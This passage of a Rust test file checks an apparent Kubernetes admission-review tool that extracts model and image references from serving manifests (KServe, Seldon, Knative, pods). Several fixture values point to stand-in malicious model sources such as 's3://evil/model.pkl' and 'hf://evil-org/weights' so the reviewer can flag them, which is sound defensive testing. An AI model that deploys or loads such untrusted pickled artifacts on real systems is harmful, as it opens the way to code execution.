            ("storageUri", "spec.predictor.model.storageUri", "oci://registry.example.com/models/credit-risk-scorer@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
        ])),
        ("knative-service.json", Some(&[
            ("env", "spec.template.spec.containers[0].env[MODEL_URI]", "https://models.example.com/scorer.onnx"),
        ])),
        ("kserve-modelcar-pod.json", Some(&[
            ("annotation", "metadata.annotations[internal.serving.kserve.io/storage-initializer-sourceuri]", "oci://registry.example.com/models/credit-risk-scorer@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
            ("env", "spec.containers[kserve-container].env[MODEL_INIT_MODE]", "async"),
            ("modelcar", "spec.containers[modelcar].image", "registry.example.com/models/credit-risk-scorer@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
            ("modelcar", "spec.initContainers[modelcar-init].image", "registry.example.com/models/credit-risk-scorer@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
        ])),
        ("kserve-predictor-pod.json", Some(&[
            ("annotation", "metadata.annotations[internal.serving.kserve.io/storage-initializer-sourceuri]", "gs://kfserving-examples/models/sklearn/1.0/model"),
            ("storage-initializer", "spec.initContainers[storage-initializer].args[0]", "gs://kfserving-examples/models/sklearn/1.0/model"),
        ])),
        ("llminferenceservice.json", Some(&[
            ("llm-model", "spec.model.uri", "hf://facebook/opt-125m"),
            ("lora-adapter", "spec.model.lora.adapters[sql-lora].uri", "s3://evil/lora/sql"),
            ("env", "spec.template.containers[main].env[VLLM_LOGGING_LEVEL]", "DEBUG"),
        ])),
        ("malformed.json", Some(&[])),
        ("pod-delete.json", None),
        ("pod-model-sources.json", Some(&[
            ("env", "spec.containers[serve].env[MODEL_URI]", "s3://evil/model.pkl"),
            ("env", "spec.containers[serve].env[LOG_LEVEL]", "info"),
            ("env", "spec.containers[serve].env[MODEL_PATH]", "valueFrom:configMapKeyRef:scorer-config/model-path"),
            ("env", "spec.containers[serve].env[POD_NAME]", "valueFrom:fieldRef:metadata.name"),
            ("arg", "spec.containers[serve].args[1]", "s3://evil/model.pkl"),
            ("arg", "spec.containers[serve].args[2]", "hf://evil-org/weights"),
            ("image-volume", "spec.volumes[weights].image.reference", "registry.example.com/models/scorer@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
        ])),
        ("pod-verified.json", Some(&[])),
        ("pod.json", Some(&[])),
        ("podtemplate.json", Some(&[
            ("env", "template.spec.containers[serve].env[MODEL_URI]", "gs://models/scorer/v3"),
        ])),
        ("replicationcontroller.json", Some(&[
            ("arg", "spec.template.spec.containers[serve].args[2]", "oci://registry.example.com/models/legacy:latest"),
        ])),
        ("seldon-model.json", Some(&[
            ("seldon-model", "spec.storageUri", "gs://seldon-models/scv2/samples/mlserver_1.3.5/iris-sklearn"),
        ])),
        ("seldondeployment.json", Some(&[
            ("seldon-graph", "spec.predictors[default].graph.modelUri", "gs://seldon-models/v1.19.0-dev/sklearn/iris"),
            ("parameter", "spec.predictors[default].graph.children[outlier].parameters[model_uri]", "s3://evil/outlier.pkl"),
            ("parameter", "spec.predictors[default].graph.children[outlier].parameters[threshold]", "0.9"),
            ("env", "spec.predictors[default].componentSpecs[0].spec.containers[outlier].env[MODEL_URI]", "s3://evil/outlier.pkl"),
            ("seldon-explainer", "spec.predictors[default].explainer.modelUri", "gs://seldon-models/v1.19.0-dev/sklearn/iris-anchor"),
        ])),
        ("servingruntime.json", Some(&[
            ("env", "spec.containers[kserve-container].env[DEFAULT_MODEL_URI]", "gs://evil/default-model"),
        ])),
        ("trainedmodel.json", Some(&[
            ("trained-model", "spec.model.storageUri", "gs://evil/model.pkl"),
        ])),
    ];

    fn fixture(name: &str) -> AdmissionRequest {
        let path = format!(
            "{}/tests/fixtures/admission/{name}",
            env!("CARGO_MANIFEST_DIR")
        );
        parse(&std::fs::read(&path).unwrap()).unwrap_or_else(|m| panic!("{name}: {m:?}"))
    }

    #[test]
    fn every_fixture_decodes_to_its_references() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/admission");
        let mut files: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|f| f.ends_with(".json"))
            .collect();
        files.sort();
        let listed: Vec<&str> = FIXTURES.iter().map(|(f, _)| *f).collect();
        assert_eq!(
            files, listed,
            "every fixture has its expected references here"
        );
        for (name, expected) in FIXTURES {
            let got = summarize(&fixture(name));
            match (*name, expected) {
                ("malformed.json", _) => {
                    assert!(
                        got.unwrap_err().contains("object.spec.containers"),
                        "{name}"
                    );
                }
                (_, None) => assert_eq!(got, Ok(None), "{name}"),
                (_, Some(expected)) => {
                    let s = got.unwrap_or_else(|e| panic!("{name}: {e}")).unwrap();
                    assert_eq!(refs(&s), expected.to_vec(), "{name}");
                    assert!(s.runs_containers, "{name}");
                    assert!(!s.name.is_empty() && s.invalid_models.is_empty(), "{name}");
                }
            }
        }
        // Facts the table does not show.
        let s = summarize(&fixture("inferenceservice-components.json"))
            .unwrap()
            .unwrap();
        let kinds: Vec<_> = s
            .references
            .iter()
            .filter_map(|r| r.digest_kind.as_deref())
            .collect();
        assert_eq!(kinds, vec!["claim", "oci"]);
        assert_eq!(
            (s.models.len(), s.models[0].source.as_str()),
            (1, "annotation")
        );
        assert_eq!(s.service_account.as_deref(), Some("models-reader"));
        let s = summarize(&fixture("pod-model-sources.json"))
            .unwrap()
            .unwrap();
        assert_eq!(s.models[0].digest, APPROVED);
        assert_eq!(s.service_account.as_deref(), Some("scorer"));
        let s = summarize(&fixture("replicationcontroller.json"))
            .unwrap()
            .unwrap();
        assert_eq!(
            (s.images[0].pinned, s.models[0].source.as_str()),
            (false, "annotation")
        );
        let s = summarize(&fixture("kserve-predictor-pod.json"))
            .unwrap()
            .unwrap();
        assert_eq!(s.name, "sklearn-iris-predictor-7d9f8c6b5-");
        let s = summarize(&fixture("trainedmodel.json")).unwrap().unwrap();
        assert!(s.containers.is_empty());
    }

    #[test]
    fn summarizing_the_inferenceservice_fixture_is_cheap() {
        // `cargo test --release --lib serve::review::tests::summarizing -- --nocapture` prints
        // the cost; the bound holds for a debug build on a slow machine too.
        let req = fixture("inferenceservice-components.json");
        let rounds = 2000u32;
        let start = std::time::Instant::now();
        let mut found = 0;
        for _ in 0..rounds {
            let s = summarize(std::hint::black_box(&req)).unwrap().unwrap();
            found += s.references.len();
        }
        let summarize_cost = start.elapsed() / rounds;
        let start = std::time::Instant::now();
        for _ in 0..rounds {
            let s = summarize(std::hint::black_box(&req)).unwrap().unwrap();
            std::hint::black_box(serde_json::to_value(&s).unwrap());
        }
        let with_json = start.elapsed() / rounds;
        eprintln!("summarize inferenceservice-components.json: {summarize_cost:?}; with serde_json::to_value: {with_json:?}");
        assert_eq!(found, 8 * rounds as usize);
        assert!(
            summarize_cost < std::time::Duration::from_micros(500),
            "{summarize_cost:?}"
        );
    }

    #[test]
    fn reviews_are_read_or_refused_with_the_uid_when_known() {
        let e = parse(b"not json").unwrap_err();
        assert!(e.uid.is_none() && e.message.contains("not JSON"));
        let e = parse(br#"{"apiVersion":"admission.k8s.io/v1beta1","kind":"AdmissionReview","request":{"uid":"x"}}"#)
            .unwrap_err();
        assert_eq!(e.uid.as_deref(), Some("x"));
        assert!(e.message.contains("v1beta1"));
        let e = parse(br#"{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"x","kind":{}}}"#)
            .unwrap_err();
        assert_eq!(e.uid.as_deref(), Some("x"));
        assert!(e.message.contains("request.kind"), "{}", e.message);
        let e =
            parse(br#"{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{}}"#)
                .unwrap_err();
        assert!(e.uid.is_none() && e.message.contains("uid"));
    }
}
